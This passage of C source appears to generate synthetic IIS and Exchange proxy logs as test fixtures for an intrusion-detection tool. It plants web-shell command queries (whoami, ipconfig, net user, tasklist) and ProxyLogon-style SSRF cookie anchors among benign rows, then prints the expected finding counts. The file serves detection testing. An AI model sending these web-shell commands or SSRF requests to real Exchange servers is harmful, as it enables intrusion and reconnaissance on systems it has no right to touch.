	{ "GET", "/wp-login.php", NULL, 404 },
	{ "GET", "/owa/auth/x.aspx", NULL, 404 },
};

static const char *const shell_get[5] = { "cmd=whoami", "cmd=ipconfig+%2fall",
	"cmd=net+user", "cmd=cmd.exe+%2fc+dir+c%3a%5c", "cmd=tasklist" };

static void
owa_rows(struct gen *g, FILE *fp, int n)
{
	const size_t nr = sizeof(owa_reqs) / sizeof(owa_reqs[0]);
	int i;

	for (i = 0; i < n; i++) {
		const struct owa_req *r = &owa_reqs[rnd(g) % nr];

		iis_row(g, fp, r->method, r->stem, r->query, "CONTOSO\\user042",
		    NULL, NULL, r->status);
	}
}

static FILE *
iis_big_open(const char *path, char *obuf, size_t nbuf)
{
	FILE *fp;

	if ((fp = fopen(path, "w")) == NULL)
		die(path);
	setvbuf(fp, obuf, _IOFBF, nbuf);
	fprintf(fp, "#Software: Microsoft Internet Information Services 10.0\n"
	    "#Version: 1.0\n#Date: 2021-03-03 00:00:00\n#Fields: %s\n",
	    iis_fields);
	return fp;
}

static int
owa(const char *size, const char *path)
{
	static char obuf[1 << 20];
	struct gen g = { .rng = 0x853c49e6748fea9bULL };
	unsigned long long want = parse_size(size), step;
	FILE *fp;
	int k;

	if (want == 0) {
		fprintf(stderr, "mklogs: bad size '%s'\n", size);
		return 2;
	}
	fp = iis_big_open(path, obuf, sizeof(obuf));
	g.t = 2 * 86400;
	step = want / 11;
	for (k = 0; k < 10; k++) {
		while ((unsigned long long)ftello(fp) < step * (unsigned)(k + 1))
			owa_rows(&g, fp, 64);
		iis_row(&g, fp, k < 5 ? "GET" : "POST",
		    "/aspnet_client/discover.aspx", k < 5 ? shell_get[k] : NULL,
		    NULL, "203.0.113.50", "python-requests/2.25.1", 200);
	}
	while ((unsigned long long)ftello(fp) + 4096 < want)
		owa_rows(&g, fp, 16);
	if (fclose(fp) != 0)
		die(path);
	printf("planted 10\n");
	return 0;
}

static int
iis_hits(const char *count, const char *path)
{
	static char obuf[1 << 20];
	struct gen g = { .rng = 0x94d049bb133111ebULL };
	long n = atol(count), i;
	FILE *fp;

	if (n <= 0) {
		fprintf(stderr, "mklogs: bad count '%s'\n", count);
		return 2;
	}
	fp = iis_big_open(path, obuf, sizeof(obuf));
	g.t = 2 * 86400;
	owa_rows(&g, fp, 50);
	for (i = 0; i < n; i++)
		iis_row(&g, fp, "GET", "/owa/auth/errorEEE.aspx", "cmd=whoami",
		    NULL, "198.51.100.23", "python-requests/2.25.1", 200);
	owa_rows(&g, fp, 50);
	if (fclose(fp) != 0)
		die(path);
	printf("planted %ld\n", n);
	return 0;
}

static unsigned long long
parse_size(const char *s)
{
	char *end;
	unsigned long long v = strtoull(s, &end, 10);

	if (end == s)
		return 0;
	if (*end == 'K' || *end == 'k')
		v <<= 10;
	else if (*end == 'M' || *end == 'm')
		v <<= 20;
	else if (*end == 'G' || *end == 'g')
		v <<= 30;
	return v;
}

static int
big(const char *size, const char *path)
{
	static const char *const tail_anchor[3] = {
		"ServerInfo~a]@exch01.contoso.local:444/mapi/emsmdb/?#",
		"ServerInfo~a]@exch01.contoso.local:444/ecp/DDI/DDIService.svc/"
		    "SetObject?schema=ResetOABVirtualDirectory#",
		"ServerInfo~a]@exch01.contoso.local:444/autodiscover/"
		    "autodiscover.xml?#",
	};
	struct gen g = { .rng = 0x9e3779b97f4a7c15ULL };
	unsigned long long want = parse_size(size);
	const char *v[C_NKEYS] = { 0 };
	static char obuf[1 << 20];
	FILE *fp;
	long rows = 0;
	int i;

	if (want == 0) {
		fprintf(stderr, "mklogs: bad size '%s'\n", size);
		return 2;
	}
	if ((fp = fopen(path, "w")) == NULL)
		die(path);
	setvbuf(fp, obuf, _IOFBF, sizeof(obuf));
	hp_init(&g);
	g.t = 86400;
	hp_prologue(fp, 1);
	while ((unsigned long long)ftello(fp) + 8192 < want) {
		hp_row(&g, fp, v);
		rows++;
	}
	for (i = 0; i < 3; i++) {
		v[C_ANCHOR] = tail_anchor[i];
		v[C_USER] = "";
		v[C_IP] = "203.0.113.7";
		hp_row(&g, fp, v);
		v[C_ANCHOR] = v[C_USER] = v[C_IP] = NULL;
		hp_row(&g, fp, v);
	}
	if (fclose(fp) != 0)
		die(path);
	/* 3 + 4 + 2 hits, all from one client on one URI: one finding per
	 * check (findings/group.c); alerts: test-proxylogon and reset. */
	printf("rows %ld\nplanted_findings 4\nplanted_alerts 2\n", rows + 6);
	return 0;
}

int
main(int argc, char **argv)
{
	struct gen g = { .rng = 0x2545f4914f6cdd1dULL };
	char path[4096];

	if (argc == 4 && strcmp(argv[1], "--size") == 0)
		return big(argv[2], argv[3]);
	if (argc == 4 && strcmp(argv[1], "--owa") == 0)
		return owa(argv[2], argv[3]);
	if (argc == 4 && strcmp(argv[1], "--iis-hits") == 0)
		return iis_hits(argv[2], argv[3]);
	if (argc != 2) {
		fprintf(stderr, "usage: mklogs DIR | mklogs --size N FILE | "
		    "mklogs --owa N FILE | mklogs --iis-hits N FILE\n");
		return 2;
	}
	if (mkdir(argv[1], 0755) != 0 && errno != EEXIST)
		die(argv[1]);
	snprintf(path, sizeof(path), "%s/expected.tsv", argv[1]);
	if ((g.exp = fopen(path, "w")) == NULL)
		die(path);
	hp_init(&g);
	httpproxy_fixture(&g, argv[1]);
	ecp_fixture(&g, argv[1]);
	oab_fixture(&g, argv[1]);
	iis_fixture(&g, argv[1]);
	rps_fixture(&g, argv[1]);
	fclose(g.exp);
	return 0;
}
